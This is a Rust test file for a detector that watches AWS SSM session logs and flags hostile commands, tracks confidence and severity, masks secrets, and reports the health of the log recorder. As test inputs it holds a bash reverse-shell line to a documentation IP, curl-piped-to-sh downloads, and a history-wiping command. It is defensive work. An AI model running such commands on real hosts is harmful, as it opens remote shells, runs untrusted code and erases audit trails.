use super::*;
use crate::{app::listening::Detected, detection::Confidence, domain::Severity};

fn message(id: &str, lines: &[&str]) -> String {
    serde_json::json!({"eventVersion": "1.0", "sessionId": id, "runAsUser": "ssm-user", "sessionData": lines})
        .to_string()
}

fn event(id: &str, second: i64, lines: &[&str]) -> LogEvent {
    LogEvent { timestamp: at(second), ingested_at: at(second), message: message(id, lines) }
}

/// What the tail of the log group shows of a session.
fn hear(state: &mut State, id: &str, second: i64, lines: &[&str]) {
    let events = vec![(key(id).id, vec![event(id, second, lines)])];
    let observation = Observation::Tailed { scope: scope(), log_group: "/ssm".into(), events, at: at(second) };
    update(state, Message::Observed(observation), at(second));
}

fn found<'a>(state: &'a State, id: &str) -> &'a [Detected] {
    state.board.sessions[&key(id)].detections.all()
}

const SHELL: &str = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";

#[test]
fn what_is_typed_anywhere_is_detected_in_the_update_that_brings_it() {
    let mut state = state(&["a", "b"]);
    select(&mut state, "a");
    let before = state.revision;
    hear(&mut state, "b", 10, &[&format!("sh-5.2$ {SHELL}")]);
    let found = found(&state, "b");
    assert_eq!(&*found[0].rule.id, "CMD-16");
    assert_eq!((found[0].confidence, found[0].severity), (Confidence::Command, Severity::Critical));
    assert_eq!((&*found[0].text, found[0].times.as_slice()), (SHELL, [at(10)].as_slice()));
    assert_eq!((state.counts.detected, state.counts.detected_worst), (1, Some(Severity::Critical)));
    assert!(state.revision > before, "it is drawn");
    assert_eq!(state.view.table.list.rows[0], key("b"), "worst first");
}

#[test]
fn mere_output_is_another_confidence_and_hidden() {
    let mut state = state(&["a"]);
    hear(&mut state, "a", 10, &["sh-5.2$ cat evil.sh", SHELL, "sh-5.2$ "]);
    let found = found(&state, "a");
    assert_eq!((&*found[0].rule.id, found[0].confidence), ("CMD-16", Confidence::Output));
    assert_eq!(found[0].severity, Severity::High, "one step lower");
    assert_eq!(state.counts.detected, 0);
    assert_eq!(state.board.sessions[&key("a")].detections.shown(false).count(), 0);
}

#[test]
fn the_same_event_counts_once_however_often_it_is_heard() {
    let mut state = state(&["a"]);
    update(&mut state, Message::Observed(preferences(true)), at(1));
    hear(&mut state, "a", 10, &[&format!("sh-5.2$ {SHELL}")]);
    let events = vec![event("a", 10, &[&format!("sh-5.2$ {SHELL}")]), event("a", 20, &[&format!("sh-5.2$ {SHELL}")])];
    let observation = Observation::Transcript { session: key("a"), events, at: at(21) };
    update(&mut state, Message::Observed(observation), at(21));
    assert_eq!(found(&state, "a").len(), 1);
    assert_eq!(found(&state, "a")[0].count(), 2, "once at ten seconds, once at twenty");
    let view = state.view.transcript.as_ref().unwrap();
    assert_eq!(view.mark(0, false), Some((Severity::Critical, Confidence::Command)), "in the margin");
}

#[test]
fn secrets_do_not_get_into_detections() {
    let mut state = state(&["a"]);
    hear(&mut state, "a", 10, &["sh-5.2$ curl -u ann:hunter2 http://203.0.113.9/x.sh | sh"]);
    let found = found(&state, "a");
    assert!(!found.is_empty());
    assert!(
        found.iter().all(|found| !found.text.contains("hunter2") && found.text.contains("ann:[masked]")),
        "{found:?}"
    );
}

#[test]
fn every_reading_of_an_uncertain_line_is_tried() {
    let mut state = state(&["a"]);
    // Recalled and replaced: the cleaned line still shows the end of what was there before.
    let line = format!("sh-5.2$ ls /srv/application/data{}{SHELL}", "\u{8}".repeat(24));
    hear(&mut state, "a", 10, &[&line]);
    assert_eq!(&*found(&state, "a")[0].rule.id, "CMD-16");
    assert_eq!(&*found(&state, "a")[0].text, SHELL);
}

#[test]
fn who_only_listens_keeps_nothing_and_forgets_who_is_gone() {
    let mut state = state(&["a"]);
    for second in 0..50 {
        hear(&mut state, "a", second, &["sh-5.2$ ls", "a", "b", "c"]);
    }
    assert_eq!((state.listening.len(), state.listening.lines), (1, 200));
    for seconds in [60, 70] {
        list(&mut state, &[], seconds);
    }
    list(&mut state, &[], 240);
    assert_eq!(state.listening.len(), 1, "what was printed last may still come");
    list(&mut state, &[], 260);
    assert!(state.listening.is_empty() && state.board.sessions.contains_key(&key("a")));
}

#[test]
fn a_flood_that_the_recorder_suffers_from_is_critical() {
    let mut state = state(&["a"]);
    hear(&mut state, "a", 10, &["sh-5.2$ yes"]);
    assert_eq!(&*found(&state, "a")[0].rule.id, "CMD-07");
    assert_eq!(found(&state, "a")[0].severity, Severity::High);
    let health = crate::domain::StreamHealth {
        events: 20,
        last_event_at: Some(at(16)),
        last_ingested_at: Some(at(16)),
        saturated_flushes: 5,
        saturated_at: Some(at(15)),
        ..Default::default()
    };
    update(&mut state, Message::Observed(preferences(true)), at(1));
    let stream = crate::domain::LogStream {
        log_group: "/ssm".into(),
        arn: None,
        created_at: Some(at(2)),
        last_event_at: Some(at(15)),
    };
    let stream = Fact::known(Some(stream), "logs:DescribeLogStreams", at(15));
    let streams = vec![(key("a").id, stream)];
    update(&mut state, Message::Observed(Observation::LogStreams { scope: scope(), streams }), at(15));
    let observation = Observation::StreamHealth {
        scope: scope(),
        log_group: "/ssm".into(),
        streams: vec![(key("a").id, health)],
        read: Fact::known((), "logs:FilterLogEvents", at(16)),
    };
    update(&mut state, Message::Observed(observation), at(16));
    let found = found(&state, "a");
    assert_eq!((found[0].severity, found[0].confirmed.is_some()), (Severity::Critical, true), "{found:?}");
}

#[test]
fn a_time_that_was_not_listened_to_stays_with_its_sessions() {
    let mut state = state(&["a"]);
    update(&mut state, Message::Observed(preferences(true)), at(1));
    let gap = |until, filled| Observation::TailGap {
        scope: scope(),
        log_group: "/ssm".into(),
        from: at(5),
        until,
        filled,
        why: failure(FailureClass::Throttled),
    };
    update(&mut state, Message::Observed(gap(None, false)), at(40));
    let unheard = |state: &State| state.board.unheard(&state.board.sessions[&key("a")]).len();
    assert_eq!(unheard(&state), 1);
    update(&mut state, Message::Observed(gap(Some(at(50)), false)), at(50));
    assert_eq!((unheard(&state), state.board.scopes[&scope()].tail_gaps[0].until), (1, Some(at(50))));
    let before = state.revision;
    update(&mut state, Message::Observed(gap(Some(at(50)), true)), at(60));
    assert_eq!(unheard(&state), 0, "it was read after all");
    assert!(state.revision > before);
}

#[test]
fn each_state_of_the_recorder_has_its_word() {
    use crate::{
        app::board::Recorder,
        domain::{LogStream, PayloadIdentity, StreamHealth},
    };
    let mut state = state(&["a"]);
    let recorder = |state: &State| state.board.recorder(&state.board.sessions[&key("a")], state.now);
    assert_eq!(recorder(&state), Recorder::NotKnown);
    update(&mut state, Message::Observed(preferences(true)), at(1));
    let read = |seconds, streams| Observation::StreamHealth {
        scope: super::scope(),
        log_group: "/ssm".into(),
        streams,
        read: Fact::known((), "logs:FilterLogEvents", at(seconds)),
    };
    let stream = |state: &mut State, seconds, stream: Option<LogStream>| {
        let fact = Fact::known(stream, "logs:DescribeLogStreams", at(seconds));
        let observed = Observation::LogStreams { scope: scope(), streams: vec![(key("a").id, fact)] };
        update(state, Message::Observed(observed), at(seconds));
    };
    let there = |seconds| LogStream {
        log_group: "/ssm".into(),
        arn: None,
        created_at: Some(at(2)),
        last_event_at: Some(at(seconds)),
    };
    update(&mut state, Message::Observed(read(2, Vec::new())), at(2));
    assert_eq!(recorder(&state), Recorder::Waiting);
    let honest = PayloadIdentity {
        session_id: "a".into(),
        target: session("a").target.as_str().into(),
        owner: session("a").owner,
        run_as_user: "ssm-user".into(),
    };
    let health = |seconds, identity: &PayloadIdentity| StreamHealth {
        events: 3,
        last_event_at: Some(at(seconds)),
        last_ingested_at: Some(at(seconds)),
        identities: [identity.clone()].into(),
        delay_seconds: 2,
        ..StreamHealth::default()
    };
    stream(&mut state, 3, Some(there(3)));
    update(&mut state, Message::Observed(read(3, vec![(key("a").id, health(3, &honest))])), at(3));
    assert_eq!(recorder(&state), Recorder::Live { delay: 2 });
    assert_eq!(recorder(&state).word(), "live 2s");
    let flood = StreamHealth { saturated_flushes: 3, saturated_at: Some(at(4)), ..health(4, &honest) };
    update(&mut state, Message::Observed(read(4, vec![(key("a").id, flood.clone())])), at(4));
    assert_eq!(recorder(&state), Recorder::Flooded);
    let late = StreamHealth { delayed_reads: 3, delay_seconds: 40, ..health(5, &honest) };
    update(&mut state, Message::Observed(read(5, vec![(key("a").id, late)])), at(5));
    assert_eq!(recorder(&state), Recorder::Late { delay: 40 });
    update(&mut state, Message::Observed(read(6, vec![(key("a").id, health(6, &honest))])), at(6));
    let Observation::Preferences { scope, document: Fact::Known { mut value, .. } } = preferences(true) else {
        panic!()
    };
    value.as_mut().unwrap().inputs.idle_timeout_minutes = Some(20);
    let again = Observation::Preferences { scope, document: Fact::known(value, "ssm:GetDocument", at(319)) };
    update(&mut state, Message::Observed(again), at(319));
    super::list(&mut state, &["a"], 319);
    update(&mut state, Message::Observed(read(320, Vec::new())), at(320));
    stream(&mut state, 320, Some(there(7)));
    assert_eq!(recorder(&state), Recorder::Stalled { since: Some(at(6)) });
    let forged = PayloadIdentity { session_id: "other".into(), ..honest.clone() };
    update(&mut state, Message::Observed(read(330, vec![(key("a").id, health(330, &forged))])), at(330));
    assert_eq!(recorder(&state), Recorder::Forged);
    update(&mut state, Message::Observed(read(331, vec![(key("a").id, health(331, &honest))])), at(331));
    stream(&mut state, 332, None);
    assert_eq!(recorder(&state), Recorder::Deleted);
    assert!(recorder(&state).warning().unwrap().contains("deleted"));
}

#[test]
fn other_rules_are_in_force_at_once_and_broken_ones_are_said() {
    let mut state = state(&["a"]);
    let empty = crate::detection::Detections::only(&[], &crate::detection::Tuning::default()).unwrap();
    update(&mut state, Message::Detections(Ok(std::sync::Arc::new(empty))), at(1));
    assert!(state.view.notice.as_ref().unwrap().text.contains("0 are in force"));
    hear(&mut state, "a", 2, &[&format!("sh-5.2$ {SHELL}")]);
    assert!(found(&state, "a").is_empty());
    update(&mut state, Message::Detections(Err("own.yml:2:1: no title".into())), at(3));
    assert!(state.view.banners[0].text.starts_with("NO DETECTION RULES"), "{:?}", state.view.banners);
    state.view.notice = None;
    update(&mut state, Message::Detections(Ok(crate::app::fixture::detector())), at(4));
    assert!(state.view.banners.is_empty() && state.view.notice.is_none(), "the first rules come without a word");
    hear(&mut state, "a", 5, &[&format!("sh-5.2$ {SHELL}")]);
    assert_eq!(found(&state, "a").len(), 1);
}

#[test]
fn what_is_typed_before_its_session_is_listed_is_not_lost() {
    let mut state = state(&["a"]);
    hear(&mut state, "late", 5, &[&format!("sh-5.2$ {SHELL}")]);
    assert_eq!(state.listening.len(), 0);
    super::list(&mut state, &["a", "late"], 6);
    assert_eq!(&*found(&state, "late")[0].rule.id, "CMD-16");
}

#[test]
fn a_command_that_goes_on_is_one_detection() {
    let mut state = state(&["a"]);
    hear(&mut state, "a", 5, &["sh-5.2$ curl http://203.0.113.9/x.sh | sh && \\", "> history -c && \\", "> id"]);
    let download: Vec<_> = found(&state, "a").iter().filter(|found| &*found.rule.id == "CMD-20").collect();
    assert_eq!(download.len(), 1, "{download:?}");
    assert!(download[0].text.ends_with("history -c && id"), "{download:?}");
    assert_eq!(download[0].count(), 1);
}

#[test]
fn an_upload_does_not_count_again_what_was_streamed() {
    let mut state = state(&["a"]);
    hear(&mut state, "a", 10, &[&format!("sh-5.2$ {SHELL}")]);
    let text = format!("Script started on x\nsh-5.2$ {SHELL}\r\nsh-5.2$ history -c\r\nScript done on y");
    let upload = LogEvent { timestamp: at(90), ingested_at: at(90), message: text };
    let events = vec![(key("a").id, vec![upload])];
    let observation = Observation::Tailed { scope: scope(), log_group: "/ssm".into(), events, at: at(90) };
    update(&mut state, Message::Observed(observation), at(90));
    let shell = &found(&state, "a")[0];
    assert_eq!((&*shell.rule.id, shell.times.as_slice(), shell.uploaded), ("CMD-16", [at(10)].as_slice(), false));
    let wiped = found(&state, "a").iter().find(|found| &*found.rule.id == "CMD-09").unwrap();
    assert!(wiped.uploaded, "typed before the upload");
}
